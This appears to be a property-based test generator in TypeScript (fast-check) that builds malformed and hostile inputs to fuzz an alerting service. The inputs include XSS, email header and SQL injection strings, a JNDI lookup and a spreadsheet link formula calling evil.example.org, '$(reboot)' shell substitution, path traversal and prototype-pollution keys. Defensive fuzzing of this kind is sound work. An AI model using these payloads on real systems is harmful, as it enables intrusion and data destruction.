import fc from 'fast-check';
import { anyText } from './any-text.ts';

/** Text that wants to be more than text, wherever it is shown. */
const tricks = [
  `</title></h1><script>alert(1)</script><img src=x onerror=alert(2)>`,
  `"><a href="javascript:alert(3)" onclick='x'>&lt;b&gt;`,
  '<speak><break time="10s"/><audio src="https://evil.example.org/a.mp3"/></speak>',
  'a\r\nBcc: everybody@evil.example.org\r\nContent-Type: text/html\r\n\r\n<b>',
  'Press now: https://evil.example.org/n/AAAAAAAAAAAAAAAAAAAAAA http://10.0.0.5/x www.evil.example.org',
  'hthttp://tp://evil.example.org ｈｔｔｐ：／／evil․example.org tel:+4915112345678',
  '\u202egro.elpmaxe.live//:sptth\u202c \u2066isolate\u2069 \u200f\u061c',
  'zero\u200bwidth\ufeff\u2060\u00ad joiner\u200d\u200c',
  '\u0000\u0007\u001b[31mred\u001b]8;;https://evil.example.org\u0007link\u009b0m\u007f',
  '%s %n %d %x {jndi:ldap://evil.example.org/a} {{7*7}} {% $states.input %} $(reboot) `id`',
  'مرحبا بالعالم שלום עולם',
  '👩‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪 ❤️ ﷽ 𝕳𝖊𝖑𝖑𝖔',
  `z${'\u0301'.repeat(300)} a${'\u{e0100}'.repeat(200)}`,
  'line one\n\nOpen and answer:\nhttps://evil.example.org/n/BBBBBBBBBBBBBBBBBBBBBB\u2028x\u2029y\u0085z',
  '\ud800 half \udc00',
  '__proto__',
  `'; DROP TABLE Incidents; --`,
  'x'.repeat(2000),
  '=HYPERLINK("https://evil.example.org")',
];

/** One trick, several of them together, or any characters at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...tricks) },
  {
    weight: 2,
    arbitrary: fc.array(fc.constantFrom(...tricks), { minLength: 2, maxLength: 3 }).map((all) => all.join(' ')),
  },
  { weight: 1, arbitrary: anyText({ maxLength: 60 }) },
);

/** What is no text. */
const noText = fc.oneof(
  fc.constantFrom<unknown>(null, true, 0, -0.5, 1e300, [], {}, [['x']], { toString: 'x' }),
  fc.jsonValue({ maxDepth: 2 }).filter((value) => typeof value !== 'string'),
);

const blank = fc.constantFrom('', ' ', '\t\n', '\u200b', '\u00a0\u202e\ufeff');
const longer = (than: number) => fc.integer({ min: than + 1, max: than + 2000 }).map((length) => 'x'.repeat(length));
const nested = (levels: number): unknown => (levels === 0 ? 1 : { a: nested(levels - 1) });
const objects = 'object';

/** For every member of an alert, what it should not be. */
const odd: Readonly<Record<string, fc.Arbitrary<unknown>>> = {
  severity: fc.oneof(noText, hostileText),
  source: fc.oneof(noText, blank, longer(200)),
  dedupKey: fc.oneof(noText, blank, longer(512)),
  policy: fc.oneof(noText, blank, longer(40)),
  action: fc.oneof(noText, hostileText),
  link: fc.oneof(
    noText,
    blank,
    fc.constantFrom('javascript:alert(1)', 'data:text/html,x', '//a', 'http://', 'https://a b'),
  ),
  details: fc.oneof(
    fc.integer({ min: 21, max: 3000 }).map(nested),
    fc.jsonValue({ maxDepth: 2 }).filter((value) => typeof value !== objects || value === null || Array.isArray(value)),
  ),
};

/** Summaries that say nothing, and those that are only odd. */
const noSummary = fc.oneof(blank, fc.constantFrom<unknown>(null, [], {}, [null], ['\u200b']));
const oddSummary = fc.oneof(
  hostileText,
  longer(1024),
  fc.constantFrom<unknown>(0, -0.5, 1e300, true, ['disk'], { a: 'disk' }),
);
const strangers = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'toString',
    'prototype',
    '',
    'Severity',
    'dedup_key ',
    'ѕummary',
    'id',
    'status',
  ),
  anyText({ minLength: 1, maxLength: 8 }).filter((name) => !(name in odd)),
);

const good: readonly (readonly [string, unknown])[] = [
  ['severity', 'error'],
  ['dedupKey', 'disk'],
  ['details', { free: 0 }],
  ['summary', 'the disk is full'],
];

/** JSON with these members in this order, were they twice, or named as what every object inherits. */
const jsonOf = (members: readonly (readonly [string, unknown])[]) =>
  `{${members.map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`).join(',')}}`;

/** Up to three odd members. */
const oddities = fc.array(
  fc.oneof(
    ...Object.entries(odd).map(([name, values]) => values.map((value) => [name, value] as const)),
    fc.tuple(strangers, fc.jsonValue({ maxDepth: 1 })),
  ),
  { maxLength: 3 },
);

/** An alert with odd members and, most often, an odd summary that can be read: the last of a name counts. */
export const oddAlert: fc.Arbitrary<string> = fc
  .tuple(oddities, oddSummary)
  .filter(([, summary]) => typeof summary !== 'string' || /[\p{L}\p{N}]/u.test(summary))
  .map(([flaws, summary]) => jsonOf([...good, ['summary', summary], ...flaws]));

/** An alert without a usable summary, whatever else it has. */
const silentAlert = fc
  .tuple(oddities, fc.option(noSummary))
  .map(([flaws, summary]) => jsonOf([...good.slice(0, -1), ['summary', summary], ...flaws]));

/** What a sender might post that is no alert at all, as text or as bytes. */
export const noAlert: fc.Arbitrary<string | Buffer> = fc.oneof(
  { weight: 6, arbitrary: silentAlert },
  {
    weight: 1,
    arbitrary: fc
      .jsonValue()
      .filter((value) => !isAlert(value))
      .map((value) => JSON.stringify(value)),
  },
  { weight: 1, arbitrary: fc.nat({ max: jsonOf(good).length - 1 }).map((length) => jsonOf(good).slice(0, length)) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 60 }).map((bytes) => Buffer.from([0xff, ...bytes])) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '',
      'null',
      '\ufeff{}',
      '{"summary":"a\u0000b"}',
      '{"summary":"a"}{"summary":"b"}',
      "{'summary':'a'}",
      '{"summary":"a",}',
      '{"summary":NaN}',
      '{"details":{"n":1e999}}',
      '<alert><summary>a</summary></alert>',
      'summary=a&severity=critical',
      '--x\r\nContent-Disposition: form-data; name="summary"\r\n\r\na\r\n--x--',
      '['.repeat(60_000),
      '{"a":'.repeat(10_000),
      `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
      jsonOf([['severity', 'x'.repeat(65_000)]]),
      jsonOf(Array.from({ length: 6000 }, (_, index) => [`a${index}`, 0])),
      `${' '.repeat(64 * 1024)}${jsonOf(good)}`,
      jsonOf([...good, ['details', { a: 'ü'.repeat(40_000) }]]),
    ),
  },
);

function isAlert(value: unknown): boolean {
  return typeof value === 'object' && value !== null && 'summary' in value;
}

/** Headers of which the functions make something, with values that they may not expect. */
export const oddHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    'content-type': fc.constantFrom(
      'text/plain',
      'multipart/form-data; boundary=x',
      'application/octet-stream',
      'x',
      `a/b;${'c=d;'.repeat(500)}`,
    ),
    'idempotency-key': fc.constantFrom('', ' ', '__proto__', '"quoted"', 'a, b', '\u00ff\u00fe', 'k'.repeat(4000)),
    accept: fc.constantFrom('application/json', '*/*', 'application/json;q=0', '', 'text/html\u00ff'),
    'x-forwarded-proto': fc.constantFrom('javascript', 'https://evil.example.org/?', ''),
    'x-http-method-override': fc.constantFrom('DELETE', 'POST'),
    constructor: fc.constant('x'),
  },
  { requiredKeys: [] },
);

/** What a link's code is not. */
export const noCode: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('..%2f..%2falerts', '%2F', 'a%2Fb', '%00', '%', '%zz', '%ff%fe', '%252e', '*', '{code}'),
  fc.constantFrom(
    '__proto__',
    'constructor',
    '-',
    'AAAAAAAAAAAAAAAAAAAAAA',
    encodeURIComponent('é'.repeat(22)),
    'x'.repeat(3000),
    `${'A'.repeat(22)};x=1`,
  ),
  anyText({ minLength: 1, maxLength: 22 }).map((text) => `x${encodeURIComponent(text.toWellFormed())}`),
);

/** What may stand behind a path. */
export const anyQuery: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    '?',
    '?reply=acknowledge',
    '?__proto__=1&constructor=2&__proto__=3',
    '?%',
    '?a[]=1&a[]=2',
    `?${'a=b&'.repeat(1000)}`,
  ),
  fc.string({ unit: 'grapheme-ascii', maxLength: 20 }).map((text) => `?${encodeURIComponent(text)}`),
);
/** A path that leads nowhere, or tries to lead elsewhere. */
export const noRoute: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '/live',
    '/live/',
    '/live/n',
    '/live/n/',
    '/live/ALERTS',
    '/live/alerts/x',
    '/live/n/a/b',
    '/live/n/a%2fb/c',
  ),
  fc.constantFrom(
    '//evil.example.org/live/x',
    'http://evil.example.org/live/x',
    'http://[/live/x',
    '/live//alerts//x',
    '/live\\x',
  ),
  fc
    .array(fc.oneof(noCode, fc.constantFrom('.', '..', '%2e%2e', 'n', 'alerts', 'live', 'x')), {
      minLength: 3,
      maxLength: 5,
    })
    .map((parts) => `/live/x/${parts.join('/')}`),
);

/** A form that is no pressed button. */
export const noForm: fc.Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom(
    '',
    'reply=',
    'reply',
    'Reply=acknowledge',
    'reply=Acknowledge',
    'reply=acknowledge%00',
    'reply=acknowledge&reply=acknowledge',
    'reply=decline&reply=acknowledge',
    'reply[]=acknowledge',
    '{"reply":"acknowledge"}',
    '--x\r\nContent-Disposition: form-data; name="reply"\r\n\r\nacknowledge\r\n--x--',
    'reply=acknowledge\r\n',
    `reply=${'acknowledge'.repeat(10_000)}`,
    `${'a=b&'.repeat(50_000)}`,
    `${'reply=acknowledge&'.repeat(10_000)}reply=decline`,
    '__proto__=acknowledge&constructor=1',
  ),
  hostileText.map((text) => `reply=${encodeURIComponent(text.toWellFormed())}`),
  fc.uint8Array({ maxLength: 60 }).map((bytes) => Buffer.from(bytes)),
);

/** A list that begins with a text is what names an alarm. */
const noName = noText.filter((value) => !Array.isArray(value) || typeof value[0] !== 'string');

const wrongOf: readonly (readonly [path: readonly string[], values: fc.Arbitrary<unknown>])[] = [
  [['resources'], fc.oneof(noName, fc.constantFrom<unknown>(undefined, [], [''], [1], 'arn', { 0: 'arn' }))],
  [['detail'], fc.oneof(noText, fc.constantFrom<unknown>(undefined, 'ALARM'))],
  [['detail', 'alarmName'], fc.oneof(noText, longer(255), fc.constantFrom<unknown>(undefined, ''))],
  [['detail', 'state'], fc.oneof(noText, fc.constantFrom<unknown>(undefined, 'ALARM'))],
  [['detail', 'state', 'value'], fc.oneof(noText, hostileText, fc.constantFrom<unknown>(undefined, 'alarm', 'ALARM '))],
  [
    ['detail', 'state', 'timestamp'],
    fc.oneof(
      noText,
      hostileText,
      fc.constantFrom<unknown>(undefined, '', '5', '2026-11-24', '2026-13-45T99:00:00.000+0000'),
    ),
  ],
];

/** Makes an alarm's event one that can't be read: one of the members that it needs is wrong or missing. */
export const spoilAlarm: fc.Arbitrary<(event: object) => object> = fc.oneof(
  ...wrongOf.map(([path, values]) => values.map((value) => (event: object) => withMember(event, path, value))),
);

function withMember(object: object, [name = '', ...rest]: readonly string[], value: unknown): object {
  const member = (object as Record<string, object>)[name] ?? {};
  return { ...object, [name]: rest.length === 0 ? value : withMember(member, rest, value) };
}
